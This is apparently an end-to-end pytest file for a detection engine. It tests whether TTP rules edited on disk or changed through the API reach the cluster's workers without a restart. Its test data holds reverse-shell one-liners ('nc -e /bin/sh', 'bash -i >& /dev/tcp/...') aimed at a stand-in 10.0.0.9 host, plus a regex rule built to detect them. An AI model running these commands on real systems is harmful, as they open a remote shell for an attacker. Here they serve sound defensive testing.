"""TTP rules on a running node: a rule file edited on disk, and a state set through the API, are
honoured by the cluster's workers (other processes than the one that made the change) without a
restart.

One ``runnode`` (2 web processes, a qcluster of 2 workers: the ``ttp`` consumer runs in whichever
worker takes the kick) plus ``ttprules sync --loop --interval 0.5`` standing in for the every-minute
sync schedule, whose first run after a start comes 30-90 s later (too slow for a bounded test).
"""

from __future__ import annotations

import textwrap
from pathlib import Path

import pytest

from tests.e2e.processes import Node, Proc, http, wait_until

RULE = """
    rule_id: R1
    rule_version: {version}
    name: reverse_shell
    applies_to: ["observed:command"]
    match:
      field: value.v
      regex: '{pattern}'
    emits:
      - tactic: TA0002
        technique_id: T1059
        sub_technique_id: T1059.004
        confidence: 0.9
    evidence_fields: [value.v]
"""

# Always enabled: its tag shows that the engine has got past the facts posted before.
MARKER = """
    rule_id: M1
    rule_version: 1
    name: marker
    applies_to: ["observed:marker"]
    match:
      field: value.v
      exists: true
    emits:
      - tactic: TA0007
        technique_id: T1082
        confidence: 0.5
    evidence_fields: [value.v]
"""


def write(directory: Path, name: str, text: str) -> None:
    # Written to a temporary name and renamed, as editors and deploys do: never half a file.
    tmp = directory / f".{name}.tmp"
    tmp.write_text(textwrap.dedent(text).lstrip())
    tmp.replace(directory / name)


class Cluster:
    def __init__(self, node: Node, key: str, workers: list[Proc], rules_dir: Path) -> None:
        self.node, self.key, self.workers, self.rules_dir = node, key, workers, rules_dir
        self.markers = 0

    def log(self) -> str:
        return "\n".join(p.log() for p in [self.node, *self.workers])

    def observe(self, value: str, relation: str = "observed:command") -> str:
        body = {
            "entity": "stigmem://e2e/host/web-1",
            "relation": relation,
            "value": {"type": "string", "v": value},
            "source": "stigmem://e2e/agent/sensor",
        }
        status, fact = http("POST", f"{self.node.url}/v1/facts", key=self.key, body=body)
        assert status == 201, fact
        return fact["id"]

    def tags(self, rule_id: str) -> dict[str, dict]:
        status, body = http("GET", f"{self.node.url}/v1/ttp/tags?rule_id={rule_id}&limit=500", key=self.key)
        assert status == 200, body
        return {tag["fact_id"]: tag for tag in body["tags"]}

    def tagged(self, fact_id: str, rule_id: str = "R1", timeout: float = 60) -> dict:
        return wait_until(lambda: self.tags(rule_id).get(fact_id), timeout, f"a {rule_id} tag on {fact_id}", self.log)

    def settle(self) -> None:
        """Wait until the engine has evaluated every fact posted so far (the log is read in order)."""
        self.markers += 1
        self.tagged(self.observe(f"marker {self.markers}", "observed:marker"), "M1")

    def rule(self, rule_id: str) -> dict:
        status, body = http("GET", f"{self.node.url}/v1/ttp/rules/{rule_id}", key=self.key)
        assert status == 200, body
        return body


@pytest.fixture(scope="module")
def cluster(tmp_path_factory):
    root = tmp_path_factory.mktemp("ttp")
    rules = root / "rules"
    rules.mkdir()
    write(rules, "R1.yaml", RULE.format(version=1, pattern="/dev/tcp/"))
    write(rules, "M1.yaml", MARKER)
    (root / "node").mkdir()
    node = Node(root / "node", "node", STIGMEM_TTP_RULES_DIR=str(rules), STIGMEM_Q_WORKERS="2")
    workers: list[Proc] = []
    try:
        node.start()
        node.wait_healthy()
        key = node.bootstrap_key()
        workers.append(node.manage("sync", "ttprules", "sync", "--loop", "--interval", "0.5"))
        workers[0].start()
        found = Cluster(node, key, workers, rules)
        loaded = lambda: http("GET", f"{node.url}/v1/ttp/rules", key=key)[1].get("total") == 2  # noqa: E731
        wait_until(loaded, 60, "the rules to be synced", found.log)
        yield found
    finally:
        for worker in workers:
            worker.kill()
        node.kill()


def test_a_rule_file_edited_on_disk_is_picked_up_by_the_running_workers(cluster):
    before = cluster.observe("nc -e /bin/sh 10.0.0.9 4444")
    cluster.tagged(cluster.observe("bash -i >& /dev/tcp/10.0.0.9/4444 0>&1"))  # the worker's index is built
    cluster.settle()
    assert before not in cluster.tags("R1")

    write(cluster.rules_dir, "R1.yaml", RULE.format(version=2, pattern=r"/dev/tcp/|nc\s+-e"))
    wait_until(lambda: cluster.rule("R1")["rule_version"] == 2, 30, "the edit to be synced", cluster.log)

    after = cluster.observe("nc -e /bin/sh 10.0.0.9 4445")
    tag = cluster.tagged(after)
    assert tag["rule_version"] == 2
    assert before not in cluster.tags("R1")  # the engine does not go back; a backfill would


def test_a_state_set_through_the_api_is_honoured_by_the_cluster_workers(cluster):
    cluster.tagged(cluster.observe("bash -i >& /dev/tcp/10.0.0.9/1 0>&1"))  # enabled, and the index built

    url = f"{cluster.node.url}/v1/ttp/rules/R1/state"
    status, body = http("PUT", url, key=cluster.key, body={"state": "disabled", "reason": "e2e"})
    assert status == 200, body
    disabled = cluster.observe("bash -i >& /dev/tcp/10.0.0.9/2 0>&1")
    cluster.settle()
    assert disabled not in cluster.tags("R1")

    status, body = http("PUT", url, key=cluster.key, body={"state": "clipped", "confidence_max": 0.4})
    assert status == 200, body
    clipped = cluster.tagged(cluster.observe("bash -i >& /dev/tcp/10.0.0.9/3 0>&1"))
    assert clipped["confidence"] == 0.4

    status, body = http("DELETE", url, key=cluster.key)
    assert status == 200, body
    enabled = cluster.tagged(cluster.observe("bash -i >& /dev/tcp/10.0.0.9/4 0>&1"))
    assert enabled["confidence"] == 0.9
